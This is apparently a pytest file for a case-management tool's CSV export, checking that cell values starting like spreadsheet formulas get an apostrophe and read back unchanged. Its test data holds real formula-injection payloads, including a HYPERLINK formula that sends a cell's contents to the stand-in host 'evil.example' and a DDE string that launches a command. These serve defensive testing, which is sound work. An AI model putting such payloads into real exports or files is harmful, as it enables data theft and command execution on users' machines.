"""Tests for anxin.cases.exports: spreadsheet-safe CSV, atomic writes."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd
import pytest

from anxin.cases import CaseStore, read_history
from anxin.cases.exports import (
    FORMULA_PREFIXES,
    ExportError,
    neutralise,
    neutralised,
    restored,
    write_frame,
)
from anxin.cli import main
from anxin.exceptions import InvalidParameterError

from .helpers import FIGURES, T0, drive, make_scores

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "详情")'
HOSTILE_NOTES = [
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''twice",
    "现场核实 =1",  # not at the start: a plain note
    "",
]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_starting_like_a_formula_gets_an_apostrophe(prefix: str) -> None:
    assert neutralise(f"{prefix}cmd") == f"'{prefix}cmd"
    assert restored(neutralise(f"{prefix}cmd")) == f"{prefix}cmd"


@pytest.mark.parametrize("value", [*HOSTILE_NOTES, -5, -1.5, 0, None, True])
def test_neutralise_is_undone_exactly(value: object) -> None:
    assert restored(neutralise(value)) == value


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "note": ["=1+1", "ok"],
            "delta": [-5, 3],
            "amount": [-1.5, 2.0],
            "workers": pd.array([None, 3], dtype="Int64"),
            "at": pd.to_datetime(["2026-06-05", "2026-06-06"]),
        }
    )
    out = neutralised(frame)
    assert out["note"].tolist() == ["'=1+1", "ok"]
    for column in ("delta", "amount", "workers", "at"):
        pd.testing.assert_series_equal(out[column], frame[column])
    assert frame["note"].tolist() == ["=1+1", "ok"]  # the input is not changed


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_history_csv_is_safe_in_a_spreadsheet_and_reads_back(
    store: CaseStore, enterprises: pd.DataFrame, tmp_path: Path
) -> None:
    (case_id,) = store.open_from_scores(
        make_scores(enterprises, ["red"]), now=T0, by="-评分任务"
    ).opened_ids
    moves = zip(
        ["dispatched", "verifying", "false_alarm", "closed"],
        [FORMULA, "+1+1", "\t=1+1", "'already quoted"],
        strict=True,
    )
    for state, note in moves:
        store.move(case_id, state, by="@核查员", note=note)
    store.open_from_scores(
        make_scores(enterprises, ["red"], as_of="2026-07"),
        now=T0 + dt.timedelta(days=40),
        by="=cmd|' /C calc'!A0",
    )
    history = store.history()
    path = store.export_history(tmp_path / "history.csv")
    cells = _cells(path)
    for cell in cells:
        for column in ("actor", "note", "action"):
            assert not cell[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    notes = [c["note"] for c in cells]
    assert f"'{FORMULA}" in notes
    assert "'=cmd|' /C calc'!A0" in [c["actor"] for c in cells]
    assert cells[0]["case_id"] == str(case_id)  # numbers stay numbers
    pd.testing.assert_frame_equal(read_history(path), history)


def test_outcomes_csv_from_the_command_line_is_neutralised(
    tmp_path: Path, enterprises: pd.DataFrame
) -> None:
    db = f"sqlite:///{tmp_path}/cases.db"
    scores = make_scores(enterprises, ["red"]).assign(
        model_name=FORMULA, model_version="-1"
    )
    with CaseStore(db) as store:
        (case_id,) = store.open_from_scores(scores, now=T0).opened_ids
        drive(store, case_id, "verifying")
        store.move(case_id, "confirmed", by="核查员", now=T0, **FIGURES)
    out = tmp_path / "outcomes.csv"
    assert main(["cases", "outcomes", "--out", str(out), "--db", db]) == 0
    (cell,) = _cells(out)
    assert cell["model_name"] == f"'{FORMULA}"
    assert cell["model_version"] == "'-1"
    assert cell["amount_owed"] == str(FIGURES["amount_owed"])
    assert cell["workers_affected"] == str(FIGURES["workers_affected"])
    parquet = tmp_path / "outcomes.parquet"
    assert main(["cases", "outcomes", "--out", str(parquet), "--db", db]) == 0
    assert pd.read_parquet(parquet)["model_name"].tolist() == [FORMULA]  # as is


def test_writing_refuses_bad_paths_and_reports_unwritable_ones(
    tmp_path: Path,
) -> None:
    frame = pd.DataFrame({"a": [1]})
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(InvalidParameterError, match="it is a directory"):
        write_frame(frame, tmp_path / "dir.csv", "t")
    with pytest.raises(InvalidParameterError, match="a NUL byte"):
        write_frame(frame, tmp_path / "a\x00.csv", "t")
    with pytest.raises(InvalidParameterError, match=r"\.csv, \.parquet or \.json"):
        write_frame(frame, tmp_path / "a.xlsx", "t")
    with pytest.raises(ExportError, match=r"Cannot write /proc/anxin/x\.csv") as info:
        write_frame(frame, "/proc/anxin/x.csv", "t")
    assert info.value.exit_code == 1
    assert isinstance(info.value, OSError)
    target = write_frame(frame, tmp_path / "deep" / "ok.csv", "t")
    assert target.read_text("utf-8") == "a\n1\n"
    assert not list(target.parent.glob(".*.tmp"))  # no temporary file left
